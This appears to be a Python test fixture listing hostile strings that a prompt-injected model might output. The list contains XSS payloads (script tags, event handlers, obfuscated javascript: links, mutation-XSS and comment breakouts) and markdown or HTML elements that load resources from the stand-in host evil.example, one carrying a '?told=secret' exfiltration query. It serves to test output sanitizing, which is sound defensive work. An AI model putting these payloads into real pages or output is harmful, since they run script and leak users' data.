"""What a model may be brought to say by whoever gets words into its prompt. Each tries to run a script
in the reader's page, or to have it load something, which would tell somebody what was said."""

OUT = "http://evil.example"

HOSTILE = [
    "<script>document.title = 'run'</script>",
    f"<script src={OUT}/a.js></script>",
    f"<img src={OUT}/a.png onerror=\"document.title='run'\">",
    f"![told]({OUT}/a.png?told=secret)",
    f"![told][ref]\n\n[ref]: {OUT}/a.png",
    f"[![told]({OUT}/a.png)]({OUT})",
    "<svg onload=\"document.title='run'\"><use href='data:,x#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='run'\">",
    f"<iframe src={OUT}></iframe><iframe srcdoc='<script>parent.document.title=\"run\"</script>'>",
    f"<object data={OUT}></object><embed src={OUT}>",
    f"<link rel=stylesheet href={OUT}/a.css>"
    f"<style>@import '{OUT}/a.css'; *{{background:url({OUT})}}</style>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href={OUT}/>",
    f"<form action={OUT}><input name=q autofocus onfocus=\"document.title='run'\">"
    "<button>Send</button></form>",
    f"<video poster={OUT}/a.png src={OUT}/a.mp4 autoplay></video><audio src={OUT}/a.mp3 autoplay>",
    f'<div style="background:url({OUT}/a.png)" onmouseover="document.title=\'run\'">over</div>',
    "[click](javascript:document.title='run')",
    "[click](JaVaScRiPt:document.title='run')",
    "[click](java\tscript:document.title='run')",
    "[click](&#106;avascript:document.title='run')",
    "[click](&#x6A;avascript:document.title='run')",
    "[click](vbscript:x) [click](data:text/html,<script>top.document.title='run'</script>)",
    "[click](<javascript:document.title='run'>)",
    "<javascript:document.title='run'>",
    "<https://e.org/\"onmouseover=\"document.title='run'>",
    "[x](https://e.org/'\"><script>document.title='run'</script>)",
    '[x](https://e.org "title\\" onmouseover=\\"document.title=\'run\'")',
    f"[ ](//evil.example/relative) [ ](/logout) [up](../../x) [x]({OUT})",
    "```html\"><script>document.title='run'</script>\ncode\n```",
    "```x&#32;fixed&#32;inset-0 y\ncode\n```",
    "```\n</code></pre><script>document.title='run'</script>\n```",
    "`</code><img src=x onerror=\"document.title='run'\">`",
    "<details open ontoggle=\"document.title='run'\"><summary>x</summary></details>",
    "<a id=composer name=composer href=x>clobber</a><form id=question></form><img name=body>",
    "<template><script>document.title='run'</script></template><noscript><p title=\"</noscript>"
    "<img src=x onerror=document.title='run'>\">",
    "<!--><img src=x onerror=\"document.title='run'\">-->",
    "<![CDATA[><script>document.title='run'</script>]]>",
    "<scr<script>ipt>document.title='run'</scr</script>ipt>",
    "\u202e<img src=x onerror=\"document.title='run'\">\u0000<script>document.title='run'</script>",
    "| a |\n| - |\n| <img src=x onerror=\"document.title='run'\"> |",
    "&lt;script&gt;document.title='run'&lt;/script&gt;",
]
